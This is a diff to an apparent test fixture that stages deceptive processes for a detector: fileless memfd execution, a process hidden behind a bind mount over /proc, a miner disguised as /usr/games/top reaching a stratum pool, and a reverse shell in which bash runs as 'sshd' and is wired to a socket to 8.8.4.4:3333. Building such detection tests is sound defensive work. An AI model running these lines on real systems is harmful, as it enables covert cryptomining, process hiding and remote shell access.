@@ -98,6 +98,10 @@ def dishonest(scene):
     memory = os.memfd_create("x", 0)
     os.write(memory, (scene.folder / "intruder").read_bytes())
     pids["memory"] = scene.start("-s", "-w", path=f"/proc/self/fd/{memory}", pass_fds=(memory,))
+    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/usr/games"], check=True)
+    pids["reader"] = scene.start("-s", "-c", "3333", "stratum+tcp://pool", path="/usr/games/top")
+    far = socket.create_connection(("8.8.4.4", 3333))
+    pids["shell"] = subprocess.Popen(["sshd"], executable="/bin/bash", stdin=far, stdout=far, stderr=far).pid
     pids["covered"] = scene.start("-s", path=SHM / "c")
     (SHM / "empty").mkdir()
     subprocess.run(["mount", "--bind", SHM / "empty", f"/proc/{pids['covered']}"], check=True)
